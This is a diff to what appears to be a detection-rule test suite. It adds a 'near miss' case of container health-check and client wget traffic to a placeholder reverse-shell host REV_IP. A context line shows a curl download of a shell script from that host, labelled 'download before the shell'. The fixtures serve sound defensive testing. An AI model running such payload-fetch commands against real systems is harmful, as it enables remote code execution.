@@ -796,6 +796,12 @@ CASES: list[PackCase] = [
         ],
         near_misses=[
             v(
+                "a health check the runtime runs, then the container's own client traffic",
+                exec_("sh -c wget -qO- http://127.0.0.1:8080/", at=0, ancestors=["runc:[1:CHILD]", "runc"]),
+                exec_(f"wget -q -O /dev/null http://{REV_IP}:8080/", at=2, ancestors=["sh", "conmon"]),
+                connect_(f"{REV_IP}:8080", "wget", at=3),
+            ),
+            v(
                 "download before the shell",
                 exec_(f"curl -sO http://{REV_IP}/x.sh", at=0),
                 connect_(f"{REV_IP}:80", "curl", at=1),
